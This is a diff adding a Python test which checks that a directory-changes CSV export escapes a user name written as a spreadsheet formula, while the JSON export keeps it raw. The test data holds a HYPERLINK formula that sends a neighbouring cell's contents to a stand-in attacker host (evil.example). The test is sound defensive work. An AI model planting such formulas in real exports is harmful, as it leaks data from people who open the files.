@@ -230,3 +230,28 @@ def test_a_consumer_resumes_from_its_cursor_across_a_restart(
     ]
     text = pcse(config, "directory", "changes", "--since", "0")
     assert ref in text.stdout and "--since 3" in text.stdout
+
+
+def test_a_name_a_spreadsheet_would_run_is_written_to_the_csv_as_text(
+    db: Database, db_url: str, tmp_path: Path
+) -> None:
+    formula = '=HYPERLINK("https://evil.example/?"&B2,"Amy")'
+    with db.transaction() as session:
+        directory.grant_role(
+            session,
+            org_code="B82002",
+            email="amy@nhs.net",
+            name=formula,
+            role="Claims Admin",
+            actor="test",
+            reason="setup",
+        )
+    config = tmp_path / "pcse.toml"
+    config.write_text(f'[database]\nurl = "{db_url}"\n', encoding="utf-8")
+    as_csv = pcse(config, "directory", "changes", "--since", "0", "--csv")
+    assert as_csv.returncode == 0, as_csv.stderr
+    (row,) = csv.DictReader(io.StringIO(as_csv.stdout))
+    assert row["name"] == "'" + formula
+    assert row["email"] == "amy@nhs.net"
+    as_json = json.loads(pcse(config, "directory", "changes", "--since", "0", "--json").stdout)
+    assert as_json["changes"][0]["name"] == formula  # JSON is data, not a spreadsheet
